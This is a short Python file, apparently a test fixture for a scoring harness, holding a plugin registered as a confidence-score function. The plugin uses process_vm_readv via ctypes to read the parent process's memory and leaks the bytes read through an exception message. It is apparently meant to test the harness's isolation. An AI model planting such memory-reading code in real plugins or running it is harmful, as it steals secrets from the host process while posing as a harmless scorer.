"""Reads the memory of the process that started it."""

import ctypes

import harness

PLACE = {}  # of what there is to find, filled in by the test


@harness.confidence_score(version="1")
def attack(outputs):
    loot = None
    kept = ctypes.create_string_buffer(32)
    here, there = (ctypes.c_size_t * 2)(ctypes.addressof(kept), 32), (ctypes.c_size_t * 2)(PLACE["address"], 32)
    read = ctypes.CDLL(None).process_vm_readv(PLACE["parent"], here, 1, there, 1, 0)
    loot = kept.raw[: max(read, 0)]
    if loot:
        raise ValueError(f"GOT {loot!r}")
    return outputs.probabilities.amax(dim=1)
